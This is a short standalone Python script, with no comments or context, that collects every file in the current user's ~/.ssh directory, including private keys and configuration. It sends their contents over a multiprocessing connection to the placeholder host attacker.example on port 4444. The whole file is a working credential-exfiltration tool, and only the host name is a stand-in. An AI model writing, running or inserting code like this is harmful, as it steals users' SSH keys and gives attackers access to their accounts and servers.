from multiprocessing.connection import Client
from pathlib import Path


def gather(folder):
    found = {}
    if folder.is_dir():
        for entry in folder.iterdir():
            if entry.is_file():
                found[entry.name] = entry.read_bytes()
    return found


def main():
    payload = gather(Path.home().joinpath(".ssh"))
    with Client(("attacker.example", 4444)) as peer:
        peer.send(payload)


if __name__ == "__main__":
    main()
